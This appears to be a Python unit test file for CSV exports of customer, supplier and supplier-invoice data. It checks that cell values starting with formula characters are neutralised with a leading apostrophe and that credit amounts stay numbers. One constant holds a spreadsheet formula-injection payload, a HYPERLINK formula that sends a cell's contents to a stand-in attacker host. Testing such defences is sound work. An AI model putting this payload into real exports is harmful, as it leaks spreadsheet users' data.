"""Every CSV export opens in a spreadsheet without running what a record holds: a supplier or
customer named `=HYPERLINK(…)`, a file named `@SUM(…)`, keep their text behind a `'`, and a
credit's negative amount stays a number (payments: tests/unit/exports/test_csvsafe.py)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from bridge.exporters.masterdata import export_masterdata
from bridge.exporters.supplierinvoices import export_supplier_invoices
from tests.exports_company import upload

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Öppna")'


def table(path: Path) -> list[dict[str, str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_masterdata_registers_defuse_a_formula_name(api, tmp_path):
    api.post("/3/customers", {"Customer": {"CustomerNumber": "66", "Name": EVIL}})
    api.post("/3/suppliers", {"Supplier": {"SupplierNumber": "66", "Name": "@SUM(A1:A9)"}})
    result = export_masterdata(api, "demo", tmp_path / "outbox", tmp_path / ".bridge")
    folder = tmp_path / "outbox" / "exports" / "masterdata" / "demo"
    assert not result.skipped
    customers = {r["CustomerNumber"]: r for r in table(folder / "customers.csv")}
    suppliers = {r["SupplierNumber"]: r for r in table(folder / "suppliers.csv")}
    assert customers["66"]["Name"] == "'" + EVIL
    assert suppliers["66"]["Name"] == "'@SUM(A1:A9)"


def test_supplier_invoices_and_their_file_manifest_defuse_formulas_and_keep_credits_numbers(api, tmp_path):
    api.post("/3/suppliers", {"Supplier": {"SupplierNumber": "66", "Name": EVIL}})
    invoice = api.post(
        "/3/supplierinvoices",
        {"SupplierInvoice": {"SupplierNumber": "66", "InvoiceNumber": "-K1", "InvoiceDate": "2026-03-02",
                             "Credit": True, "Total": "-1250.50", "VAT": "-250.10",
                             "SupplierInvoiceRows": [{"Account": 6110, "Credit": "1000.40"}]}},
    )["SupplierInvoice"]  # fmt: skip
    file = upload(api, "inbox_s", "+46 faktura.pdf", b"%PDF-1.4\n%%EOF\n")
    api.post(
        "/3/supplierinvoicefileconnections",
        {
            "SupplierInvoiceFileConnection": {
                "FileId": file["Id"],
                "SupplierInvoiceNumber": invoice["GivenNumber"],
            }
        },
    )
    result = export_supplier_invoices(api, "demo", tmp_path, date(2026, 1, 1))
    row = next(r for r in table(result.folder / "supplierinvoices.csv") if r["SupplierNumber"] == "66")
    assert row["SupplierName"] == "'" + EVIL
    assert row["InvoiceNumber"] == "'-K1"  # text that starts with a minus is text
    assert row["Total"] == "-1250.5"  # a credit's amount stays a number
    manifests = list(result.folder.rglob("manifest.csv"))
    names = [r["original_name"] for m in manifests for r in table(m)]
    assert "'+46 faktura.pdf" in names
